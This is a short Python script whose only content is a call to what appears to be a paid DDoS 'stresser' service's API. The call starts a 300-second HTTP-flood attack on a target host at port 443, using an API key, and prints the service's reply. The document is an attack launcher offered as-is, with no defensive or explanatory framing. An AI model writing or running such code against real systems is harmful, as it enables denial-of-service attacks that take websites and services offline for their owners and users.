import requests

API_KEY = "8f1c2e9a0b"
params = {"key": API_KEY, "host": "203.0.113.200", "port": 443, "time": 300, "method": "HTTP-FLOOD", "concurrents": 2}
r = requests.get("https://api.nightmare-stresser.example/v2/start", params=params, timeout=20)
print(r.json())
